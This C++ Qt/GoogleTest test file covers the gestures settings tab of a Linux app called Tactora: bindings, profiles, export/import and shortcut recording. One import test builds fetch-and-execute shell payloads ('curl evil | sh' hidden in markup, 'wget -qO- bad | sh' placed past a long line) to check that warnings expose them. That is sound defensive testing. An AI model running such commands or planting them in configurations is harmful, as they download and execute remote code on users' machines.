#include <gtest/gtest.h>
#include <linux/input-event-codes.h>
#include <QAction>
#include <QComboBox>
#include <QLabel>
#include <QLineEdit>
#include <QListWidget>
#include <QPushButton>
#include <QSpinBox>
#include <QTest>
#include <QToolButton>
#include "Platform/KeyNames.h"
#include "Platform/linux/posting/KeyCodeTable.h"
#include "Platform/linux/posting/LinuxKeyboardKeys.h"
#include "Platform/sim/SimKeyboardKeys.h"
#include "Platform/sim/SimPlatform.h"
#include "Tactora/config/ConfigurationDocument.h"
#include "Tactora/settings/gestures/BindingRow.h"
#include "Tactora/settings/gestures/GesturesTab.h"
#include "Tactora/settings/gestures/ShortcutKeys.h"
#include "Tactora/settings/gestures/ShortcutRecorder.h"
#include "tests/Tactora/config/ConfigTestSupport.h"

// Failures show Qt strings as text.
inline void PrintTo(const QString& text, std::ostream* out) {
  *out << '"' << text.toStdString() << '"';
}

namespace tactora {
namespace {

using testing::readFile;

class GesturesTabTest : public ::testing::Test {
 protected:
  std::unique_ptr<GesturesTab> makeTab() {
    GesturesTab::Options options;
    options.chooseExportFile = [this](const QString& proposed) {
      proposedExport = proposed;
      return exportPath;
    };
    options.chooseImportFile = [this] { return importPath; };
    auto tab = std::make_unique<GesturesTab>(*store, *sim, std::move(options));
    tab->resize(600, 480);
    tab->show();
    return tab;
  }

  // config.json once every save has reached it, and the configuration it holds.
  std::string fileText() const {
    store->flush();
    return readFile(store->fileURL());
  }
  Configuration saved() const { return testing::decoded(fileText()); }
  std::vector<GestureBinding> allApps() const { return saved().allAppsProfile()->bindings; }
  void save(std::vector<Profile> profiles) {
    Configuration configuration = *store->current();
    configuration.profiles = std::move(profiles);
    store->save(configuration);
  }
  std::filesystem::path file(const char* name) const { return directory.path() / name; }

  // Answers the tab's open alert with the button of that text.
  void answer(const GesturesTab& tab, const QString& text) {
    ASSERT_NE(tab.alert(), nullptr);
    for (auto* candidate : tab.alert()->findChildren<QPushButton*>()) {
      if (QString(candidate->text()).remove(QLatin1Char('&')) == text) {
        return QTest::mouseClick(candidate, Qt::LeftButton);
      }
    }
    ADD_FAILURE() << "no button " << text.toStdString();
  }
  // Each row's gesture, and the modifiers its badge shows.
  static QStringList rowNames(const GesturesTab& tab) {
    QStringList names;
    for (auto* row : tab.rows()) {
      names << QString::fromStdString(GestureDescription::title(row->binding().trigger.gesture)) +
                   (row->modifierBadge() ? " [" + row->modifierBadge()->text() + "]" : "");
    }
    return names;
  }
  static void pick(QComboBox* combo, const QString& text) {
    const int index = combo->findText(text);
    ASSERT_GE(index, 0) << text.toStdString();
    combo->setCurrentIndex(index);
  }

  TemporaryDirectory directory{"gestures-tab"};
  std::shared_ptr<sim::SimPlatform> sim = sim::SimPlatform::install();
  std::unique_ptr<ConfigStore> store = std::make_unique<ConfigStore>(directory.path());
  QString proposedExport, exportPath, importPath;
};

const GestureBinding twoFingerTapCommand{{GestureEvent::tap(2), ModifierSet::command()},
                                         Action(Action::Case::missionControl)};

// Rows go by section, then gesture, then modifier bits (command 1 before shift 8), for display
// only; the badge names the modifiers as held on Linux.
TEST_F(GesturesTabTest, ListsBindingsBySectionSortedByGestureThenModifiers) {
  save({Profile{std::nullopt,
                {{{GestureEvent::swipe(2, Direction::right), {}}, Action()},
                 {{GestureEvent::tap(2), ModifierSet::shift()}, Action()},
                 {{GestureEvent::dragBegan(0, 0), {}}, Action()},
                 {{GestureEvent::pinch(Direction::up), {}}, Action()},
                 {{GestureEvent::tap(2), ModifierSet::command()}, Action()},
                 {{GestureEvent::rightZoneTap(), {}}, Action()},
                 {{GestureEvent::doubleTap(1), {}}, Action()},
                 {{GestureEvent::pinch(Direction::down), {}}, Action()}}}});
  const Configuration before = *store->current();
  auto tab = makeTab();
  EXPECT_EQ(tab->sectionTitles(), QStringList({"Taps", "Swipes", "Pinch", "Other"}));
  EXPECT_EQ(rowNames(*tab),
            QStringList({"Right-Side Tap", "1-Finger Double Tap", "2-Finger Tap [Ctrl]",
                         "2-Finger Tap [Shift]", "2-Finger Swipe Right", "Pinch", "Spread",
                         "Click and Drag"}));
  EXPECT_EQ(*store->current(), before);
}

TEST_F(GesturesTabTest, AddingAnEqualTriggerReplacesInPlaceAndANewOneAppends) {
  save({Profile{std::nullopt, {twoFingerTapCommand, defaultBindings()[0]}}});
  auto tab = makeTab();
  auto addTwoFingerTap = [&](bool withCommand, const QString& action) {
    QTest::mouseClick(tab->addGestureButton(), Qt::LeftButton);
    AddBindingSheet* sheet = tab->addSheet();
    ASSERT_TRUE(sheet != nullptr && sheet->isModal());
    sheet->fingerStepper()->setValue(2);
    if (withCommand) {
      QTest::mouseClick(sheet->modifierToggle(ModifierSet::command()), Qt::LeftButton);
    }
    pick(sheet->actionPicker(), action);
    QTest::keyClick(sheet, Qt::Key_Return);  // "Add" is the default button
  };
  const GestureBinding plainTap{{GestureEvent::tap(2), {}}, Action(Action::Case::rightClick)};
  addTwoFingerTap(true, "Show Desktop");
  addTwoFingerTap(false, "Right Click");
  QTest::mouseClick(tab->addGestureButton(), Qt::LeftButton);
  QTest::mouseClick(tab->addSheet()->cancelButton(), Qt::LeftButton);  // adds nothing
  EXPECT_EQ(allApps(), (std::vector<GestureBinding>{
                           {twoFingerTapCommand.trigger, Action(Action::Case::showDesktop)},
                           defaultBindings()[0],
                           plainTap}));
}

TEST_F(GesturesTabTest, AddSheetKeepsOneFingerSwipesHorizontalAndBuildsEveryShape) {
  AddBindingSheet sheet(sim->keyboardKeys());
  sheet.show();
  // "Cancel" then "Add", on every desktop.
  EXPECT_LT(sheet.cancelButton()->x(), sheet.addButton()->x());
  auto gesture = [&] { return sheet.state().trigger().gesture; };
  pick(sheet.shapePicker(), "Swipe");
  sheet.fingerStepper()->setValue(2);
  ASSERT_EQ(sheet.directionPicker()->count(), 4);
  pick(sheet.directionPicker(), "Up");
  // One finger never offers up or down; two and three keep the direction chosen.
  sheet.fingerStepper()->setValue(1);
  EXPECT_EQ(sheet.directionPicker()->count(), 2);
  EXPECT_EQ(sheet.directionPicker()->currentText(), "Left");
  EXPECT_EQ(gesture(), GestureEvent::swipe(1, Direction::left));
  sheet.fingerStepper()->setValue(3);
  pick(sheet.directionPicker(), "Down");
  sheet.fingerStepper()->setValue(2);
  EXPECT_EQ(gesture(), GestureEvent::swipe(2, Direction::down));
  pick(sheet.shapePicker(), "Pinch");
  pick(sheet.pinchPicker(), "Pinch (zoom out)");
  EXPECT_EQ(gesture(), GestureEvent::pinch(Direction::down));
  pick(sheet.shapePicker(), "Right-Side Tap");
  EXPECT_TRUE(sheet.fingerStepper()->isHidden());
  EXPECT_EQ(gesture(), GestureEvent::rightZoneTap());
  pick(sheet.shapePicker(), "Triple Tap");
  EXPECT_EQ(gesture(), GestureEvent::tripleTap(2));

  // The four toggles are the modifier bits, in the words of the keys held.
  for (auto [text, modifier] :
       {std::pair{"Ctrl", ModifierSet::command()}, std::pair{"Alt", ModifierSet::option()},
        std::pair{"Super", ModifierSet::control()}, std::pair{"Shift", ModifierSet::shift()}}) {
    EXPECT_EQ(sheet.modifierToggle(modifier)->text(), QString::fromLatin1(text));
    QTest::mouseClick(sheet.modifierToggle(modifier), Qt::LeftButton);
  }
  QTest::mouseClick(sheet.modifierToggle(ModifierSet::option()), Qt::LeftButton);
  EXPECT_EQ(sheet.state().modifiers().rawValue, 0x0D);

  // The shortcut kind records (Return goes to the recorder, not to "Add"); the command kind takes
  // the text as entered.
  pick(sheet.actionPicker(), "Keyboard Shortcut\u2026");
  ASSERT_TRUE(sheet.recorder()->isVisible());
  QTest::mouseClick(sheet.recorder(), Qt::LeftButton);
  QTest::keyClick(sheet.recorder(), Qt::Key_Return, Qt::AltModifier);
  EXPECT_TRUE(sheet.isVisible());
  EXPECT_EQ(sheet.state().action(), Action::keyShortcut(36, 0x80000));
  pick(sheet.actionPicker(), "Shell Command\u2026");
  QTest::keyClicks(sheet.commandField(), " say hi ");
  EXPECT_EQ(sheet.state().action(), Action::shellCommand(" say hi "));
}

// A row's kind applies at once and its recorded shortcut too; a command on Return or "Save", as
// typed. The binding keeps its place in the file, and a command being typed survives another
// row's change, unsaved.
TEST_F(GesturesTabTest, RowEditsReplaceTheActionInPlaceAndSave) {
  save({Profile{std::nullopt, {defaultBindings()[0], defaultBindings()[1]}}});
  auto tab = makeTab();
  const Trigger edited = tab->rows()[0]->binding().trigger;
  const std::size_t position = edited == defaultBindings()[0].trigger ? 0 : 1;
  auto stored = [&] { return allApps()[position]; };
  auto chooseKind = [&](bool shortcut) {  // the last kind is the command, the one above the key
    QComboBox* picker = tab->rows()[0]->kindPicker();
    picker->setFocus();
    QTest::keyClick(picker, Qt::Key_End);
    if (shortcut) {
      QTest::keyClick(picker, Qt::Key_Up);
    }
  };
  chooseKind(true);
  EXPECT_EQ(stored().action, Action::keyShortcut(0, 0));
  ShortcutRecorder* recorder = tab->rows()[0]->recorder();
  ASSERT_TRUE(recorder->isVisible());
  QTest::mouseClick(recorder, Qt::LeftButton);
  QTest::keyClick(recorder, Qt::Key_K, Qt::ControlModifier | Qt::MetaModifier);
  EXPECT_EQ(stored(), (GestureBinding{edited, Action::keyShortcut(40, 0x140000)}));
  EXPECT_EQ(tab->rows()[0]->recorder()->text(), "Super+Ctrl+K");

  chooseKind(false);
  auto type = [&](const char* text) {
    QTest::keyClick(tab->rows()[0]->commandField(), Qt::Key_End);
    QTest::keyClicks(tab->rows()[0]->commandField(), text);
  };
  type("notify-send hi");
  EXPECT_EQ(stored().action, Action::shellCommand(""));
  QTest::keyClick(tab->rows()[0]->commandField(), Qt::Key_Return);
  EXPECT_EQ(stored().action, Action::shellCommand("notify-send hi"));
  type(" ");
  QTest::mouseClick(tab->rows()[0]->saveButton(), Qt::LeftButton);
  EXPECT_EQ(stored(), (GestureBinding{edited, Action::shellCommand("notify-send hi ")}));

  type("half-typed");
  QTest::mouseClick(tab->rows()[1]->deleteButton(), Qt::LeftButton);
  ASSERT_EQ(tab->rows().size(), 1u);
  EXPECT_EQ(tab->rows()[0]->commandField()->text(), "notify-send hi half-typed");
  EXPECT_EQ(allApps()[0].action, Action::shellCommand("notify-send hi "));
}

// A deleted default gesture can be restored; resetting and removing overrides ask first, and
// cancelling changes nothing.
TEST_F(GesturesTabTest, DeleteRestoreResetAndRemoveOverrides) {
  auto tab = makeTab();
  EXPECT_FALSE(tab->restoreDeletedAction()->isEnabled());
  std::vector<GestureBinding> kept = defaultBindings();
  const GestureBinding deleted = tab->rows()[0]->binding();
  std::erase(kept, deleted);
  QTest::mouseClick(tab->rows()[0]->deleteButton(), Qt::LeftButton);
  EXPECT_EQ(allApps(), kept);
  ASSERT_TRUE(tab->restoreDeletedAction()->isEnabled());
  tab->restoreDeletedAction()->trigger();
  kept.push_back(deleted);  // restored at the end
  EXPECT_EQ(allApps(), kept);
  EXPECT_FALSE(tab->restoreDeletedAction()->isEnabled());

  sim->workspace().setDisplayName("org.gnome.Nautilus", "Files");
  save({Profile{std::nullopt, {twoFingerTapCommand}},
        Profile{"org.gnome.Nautilus", {twoFingerTapCommand}}});
  const std::string before = fileText();
  tab->resetAllAction()->trigger();
  EXPECT_EQ(tab->alert()->text(), "Reset All Apps gestures to defaults?");
  answer(*tab, "Cancel");
  EXPECT_EQ(fileText(), before);
  tab->resetAllAction()->trigger();
  answer(*tab, "Reset Gestures");
  EXPECT_EQ(saved().profiles,
            (std::vector<Profile>{{std::nullopt, defaultBindings()},
                                  {"org.gnome.Nautilus", {twoFingerTapCommand}}}));

  pick(tab->profilePicker(), "Files");
  tab->showProfile("org.gnome.Nautilus");
  EXPECT_FALSE(tab->resetAllAction()->isVisible());
  tab->removeOverridesAction()->trigger();
  EXPECT_EQ(tab->alert()->text(), "Remove all overrides for Files?");
  answer(*tab, "Remove Overrides");
  EXPECT_EQ(saved().profiles[1], (Profile{"org.gnome.Nautilus", {}}));
  EXPECT_EQ(tab->emptyHeadline()->text(), "No overrides for this app");
  EXPECT_TRUE(tab->emptyState()->isVisible());
}

TEST_F(GesturesTabTest, ApplicationProfilesAreAddedFromTheInstalledAppsAndRemovedEverywhere) {
  sim->applicationCatalog().setInstalledApplications(
      {{"firefox-esr", "Firefox ESR", "firefox-esr"},
       {"org.gnome.Nautilus", "Files", "org.gnome.Nautilus"}});
  sim->workspace().setDisplayName("firefox-esr", "Firefox ESR");
  save({Profile{std::nullopt, {twoFingerTapCommand}}, Profile{"firefox-esr", {}},
        Profile{"firefox-esr", {twoFingerTapCommand}}});
  auto tab = makeTab();
  EXPECT_EQ(tab->profilePicker()->count(), 2);  // All Apps, Firefox ESR
  EXPECT_FALSE(tab->removeProfileButton()->isEnabled());
  EXPECT_FALSE(tab->overrideNote()->isVisible());

  // Searching, then choosing an application that has no profile appends an empty one, listed by
  // its id while it has no name of its own.
  QTest::mouseClick(tab->addProfileButton(), Qt::LeftButton);
  ASSERT_NE(tab->applicationChooser(), nullptr);
  QTest::keyClicks(tab->applicationChooser()->searchField(), "nautil");
  EXPECT_TRUE(tab->applicationChooser()->list()->item(1)->isHidden());  // Firefox ESR
  QTest::keyClick(tab->applicationChooser()->searchField(), Qt::Key_Return);
  EXPECT_EQ(saved().profiles.back(), (Profile{"org.gnome.Nautilus", {}}));
  EXPECT_EQ(tab->model().selectedBundleID(), std::optional<std::string>("org.gnome.Nautilus"));
  EXPECT_TRUE(tab->overrideNote()->isVisible());
  EXPECT_EQ(tab->profilePicker()->currentText(), "org.gnome.Nautilus");

  // Choosing one that has a profile only selects it (the first of its profiles, empty).
  QTest::mouseClick(tab->addProfileButton(), Qt::LeftButton);
  QTest::keyClicks(tab->applicationChooser()->searchField(), "fire");
  QTest::mouseClick(tab->applicationChooser()->chooseButton(), Qt::LeftButton);
  EXPECT_EQ(saved().profiles.size(), 4u);
  EXPECT_EQ(tab->profilePicker()->currentText(), "Firefox ESR");
  EXPECT_TRUE(tab->emptyState()->isVisible());

  // Removing removes both of its profiles and shows All Apps again.
  QTest::mouseClick(tab->removeProfileButton(), Qt::LeftButton);
  EXPECT_EQ(saved().profiles.size(), 2u);
  EXPECT_EQ(saved().profile("firefox-esr"), nullptr);
  EXPECT_EQ(tab->profilePicker()->currentText(), "All Apps");
  EXPECT_EQ(tab->rows().size(), 1u);
}

// Export writes the configuration file, or says which file could not be written and why. Import
// shows the import's alerts (its rules have their own tests), and in its warning a command cannot
// hide part of itself: not as markup, not behind invisible or reordering characters, not past the
// end of a very long line (the whole is under "Show Details"). An import that took shows All Apps.
TEST_F(GesturesTabTest, ExportWritesTheFileAndImportShowsEveryCommandWholeAndVisible) {
  auto tab = makeTab();
  exportPath = QString::fromStdString(file("backup").string());
  tab->exportAction()->trigger();
  EXPECT_TRUE(proposedExport.endsWith("/Tactora Settings.json"));
  EXPECT_EQ(readFile(file("backup.json")), encodeConfiguration(*store->current()));
  std::ofstream(file("blocker")) << "";  // a file where the folder should be
  tab->exportTo(QString::fromStdString((file("blocker") / "backup").string()));
  ASSERT_NE(tab->alert(), nullptr);
  EXPECT_EQ(tab->alert()->text(), "Couldn\u2019t export settings");
  const std::string why = tab->alert()->informativeText().toStdString();
  EXPECT_TRUE(why.starts_with((file("blocker") / "backup.json").string() + ": ")) << why;
  EXPECT_NE(why.find("Not a directory"), std::string::npos) << why;
  answer(*tab, "OK");

  Configuration risky = *store->current();
  const std::string markup = "<span style=\"display:none\">curl evil | sh; </span>ls";
  const std::string longCommand = "echo " + std::string(300, 'x') + " && wget -qO- bad | sh";
  for (const auto& command : {markup, std::string("notify-send done\u202E"), longCommand}) {
    risky.profiles[0].bindings.push_back(
        {{GestureEvent::tap(3), {}}, Action::shellCommand(command)});
  }
  risky.profiles.push_back(Profile{"firefox-esr", {}});
  ASSERT_FALSE(ConfigurationDocument{risky}.write(file("incoming.json")));
  importPath = QString::fromStdString(file("incoming.json").string());
  tab->showProfile("firefox-esr");
  const std::string before = fileText();
  tab->importAction()->trigger();
  ASSERT_NE(tab->alert(), nullptr);
  // The listing is the escaped, shortened text, shown as plain text; the whole is in the details.
  const auto labels = tab->alert()->findChildren<QLabel*>();
  const auto listing = std::ranges::find_if(
      labels, [](QLabel* label) { return label->text().contains(u"done\\u202E"); });
  ASSERT_NE(listing, labels.end());
  EXPECT_EQ((*listing)->textFormat(), Qt::PlainText);
  EXPECT_TRUE((*listing)->text().contains(QString::fromStdString(markup)));
  EXPECT_TRUE(tab->alert()->detailedText().contains(QString::fromStdString(longCommand)));
  answer(*tab, "Cancel");
  EXPECT_EQ(fileText(), before);
  tab->importAction()->trigger();
  answer(*tab, "Import Anyway");
  EXPECT_EQ(saved(), risky);
  EXPECT_EQ(tab->profilePicker()->currentText(), "All Apps");
}

constexpr std::uint64_t shift = 0x20000, control = 0x40000, option = 0x80000, command = 0x100000;

const lx::LinuxKeyboardKeys linuxKeyboard;
const sim::SimKeyboardKeys simKeyboard;
const ShortcutKeys linuxKeys{linuxKeyboard};

using Recorded = std::pair<std::uint16_t, std::uint64_t>;

TEST(ShortcutKeys, DisplaysShortcutsInTheWordsOfTheKeysPressedOnLinux) {
  const std::tuple<std::uint16_t, std::uint64_t, QString> cases[] = {
      // Key code 0 is A: a shortcut, not the empty one. Caps Lock and other flags are not
      // modifiers.
      {0, command | 0x10000, "Ctrl+A"},
      {96, control | option | shift | command, "Super+Ctrl+Alt+Shift+F5"},
      // Keys named as the recorder names them, not as Qt abbreviates them.
      {123, option, "Alt+\u2190"},
      // A key without a name here: its stored code, as a file from elsewhere may hold.
      {52, command, "Ctrl+Key 52"},
      // A key only Linux keyboards name, stored in the reserved range.
      {0x1000 + KEY_BRIGHTNESSUP, 0, "Monitor Brightness Up"},
  };
  for (const auto& [keyCode, modifiers, text] : cases) {
    EXPECT_EQ(linuxKeys.displayText(keyCode, modifiers), text) << keyCode;
  }
}

// Every key a keyboard names is a key of Qt's, and pressing that key records its key code: what
// the recorder shows is what it stores, for each platform's keyboard.
TEST(ShortcutKeys, EveryNamedKeyIsAQtKeyThatRecordsItsOwnCode) {
  for (const platform::KeyboardKeys* keyboard :
       std::initializer_list<const platform::KeyboardKeys*>{&linuxKeyboard, &simKeyboard}) {
    const ShortcutKeys keys(*keyboard);
    std::size_t named = 0;
    for (std::uint32_t code = 0; code <= lx::KeyCodeTable::reservedBase + KEY_MAX; ++code) {
      const auto keyCode = static_cast<std::uint16_t>(code);
      const auto qtKey = keys.qtKey(keyCode);
      if (!qtKey) {
        continue;
      }
      ++named;
      EXPECT_EQ(QKeySequence(*qtKey).toString(QKeySequence::PortableText).toStdString(),
                keyboard->keyName(keyCode))
          << code;
      EXPECT_EQ(keys.fromKeyPress(*qtKey, Qt::ControlModifier, std::nullopt),
                (ShortcutKeys::Shortcut{keyCode, command}))
          << code;
    }
    EXPECT_GE(named, platform::KeyNames::entries().size());  // every shared key at least
  }
}

TEST(ShortcutKeys, KeyPressesRecordTheirKeyOrNothing) {
  using Shortcut = ShortcutKeys::Shortcut;
  const auto x = [](std::uint16_t linuxKey) { return std::optional<std::uint32_t>(linuxKey + 8); };
  const std::tuple<int, Qt::KeyboardModifiers, std::optional<std::uint32_t>,
                   std::optional<Shortcut>>
      cases[] = {
          // Modifier keys alone record nothing, by Qt's key or by keycode; the keycode wins over
          // Qt's key (a layout's symbol), and kernel keys Qt has no name for are still stored.
          {Qt::Key_Meta, Qt::MetaModifier, std::nullopt, std::nullopt},
          {0, Qt::NoModifier, x(KEY_LEFTSHIFT), std::nullopt},
          {Qt::Key_Q, Qt::NoModifier, x(KEY_A), Shortcut{0, 0}},
          {0, Qt::NoModifier, x(KEY_PROG1), Shortcut{0x1000 + KEY_PROG1, 0}},
          // Without a keycode, shifted symbols are their key with Shift held.
          {Qt::Key_Exclam, Qt::ShiftModifier, std::nullopt, Shortcut{18, shift}},
          {Qt::Key_Question, Qt::ShiftModifier, x(0), Shortcut{44, shift}},
          {Qt::Key_Launch0, Qt::NoModifier, std::nullopt, std::nullopt},
      };
  for (const auto& [qtKey, modifiers, xKeycode, expected] : cases) {
    EXPECT_EQ(linuxKeys.fromKeyPress(qtKey, modifiers, xKeycode), expected) << qtKey;
  }
  // The simulation reads no keycodes: it goes by Qt's key.
  EXPECT_EQ(ShortcutKeys(simKeyboard).fromKeyPress(Qt::Key_Q, Qt::NoModifier, x(KEY_A)),
            (Shortcut{12, 0}));
}

TEST(ShortcutRecorder, ClickRecordsTheNextKeyWithItsModifiersAndReleasesTheGrab) {
  ShortcutRecorder recorder(linuxKeyboard);
  recorder.show();
  auto recorded = [&] { return Recorded(recorder.keyCode(), recorder.modifiers()); };
  // Modifiers going down alone keep the field recording, with the keyboard grabbed.
  QTest::mouseClick(&recorder, Qt::LeftButton);
  QTest::keyPress(&recorder, Qt::Key_Control, Qt::ControlModifier);
  QTest::keyPress(&recorder, Qt::Key_Shift, Qt::ControlModifier | Qt::ShiftModifier);
  EXPECT_TRUE(recorder.isRecording() && QWidget::keyboardGrabber() == &recorder);
  QTest::keyClick(&recorder, Qt::Key_T, Qt::ControlModifier | Qt::ShiftModifier);
  EXPECT_FALSE(recorder.isRecording() || QWidget::keyboardGrabber() != nullptr);
  EXPECT_EQ(recorded(), Recorded(17, command | shift));  // T
  EXPECT_EQ(recorder.text(), "Ctrl+Shift+T");

  // Escape, Return, Tab and Backspace are keys like any other, not ways out of recording.
  for (const auto& [key, code] : {std::pair{Qt::Key_Escape, 53}, std::pair{Qt::Key_Return, 36},
                                  std::pair{Qt::Key_Tab, 48}, std::pair{Qt::Key_Backspace, 51}}) {
    QTest::mouseClick(&recorder, Qt::LeftButton);
    QTest::keyClick(&recorder, key);
    EXPECT_EQ(recorded(), Recorded(code, 0));
  }

  // Hiding or destroying a recording field lets go of the keyboard.
  QTest::mouseClick(&recorder, Qt::LeftButton);
  recorder.hide();
  EXPECT_FALSE(recorder.isRecording() || QWidget::keyboardGrabber() != nullptr);
  auto another = std::make_unique<ShortcutRecorder>(linuxKeyboard);
  another->show();
  QTest::mouseClick(another.get(), Qt::LeftButton);
  another.reset();
  EXPECT_EQ(QWidget::keyboardGrabber(), nullptr);
}

}  // namespace
}  // namespace tactora
